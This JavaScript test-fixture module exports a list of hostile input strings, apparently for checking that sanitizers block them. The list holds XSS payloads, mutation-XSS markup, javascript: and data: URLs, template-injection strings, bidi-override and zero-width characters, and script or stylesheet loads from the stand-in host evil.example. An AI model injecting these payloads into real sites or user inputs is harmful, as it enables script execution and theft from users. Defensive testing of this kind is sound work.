// Texts that try to be more than text: markup, addresses that are scripts, mutation, template braces, directions and
// signs that are not seen. Each would leave a trace in `globalThis.stolen`, or ask for something of another host.

const steal = 'globalThis.stolen=1';

export const inputs = [
  `<img src=x onerror="${steal}">`,
  `<svg/onload=${steal}>`,
  `<script>${steal}</script>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `</script><script>${steal}</script>`,
  `</textarea></title><svg onload=${steal}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${steal}&gt;">`,
  `<iframe srcdoc="<script>parent.stolen=1</script>"></iframe>`,
  `<style>@import "https://evil.example/x.css";*{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>`,
  `javascript:${steal}`,
  `java\tscript:${steal}`,
  `&#106;avascript:${steal}`,
  `data:text/html,<script>${steal}</script>`,
  `vbscript:msgbox(1)`,
  `https://a.example/"onmouseover="${steal}" x="`,
  `https://a.example/'onmouseover='${steal}' https:evil.example //evil.example http://ok@127.0.0.1`,
  `{{constructor.constructor('${steal}')()}} \${${steal}} <%= 1 %> #{1}`,
  '\u202Egpj.exe\u202C \u2067abc\u2069',
  'a\u200Bb\u200D\uFEFF\u2060c',
  `__proto__ constructor toString \\u003cscript\\u003e %3Cscript%3E`,
];

/** For fields that take a short text, without line breaks and tabs. */
export const shortInputs = inputs.filter((text) => text.length <= 60 && !text.includes('\t'));
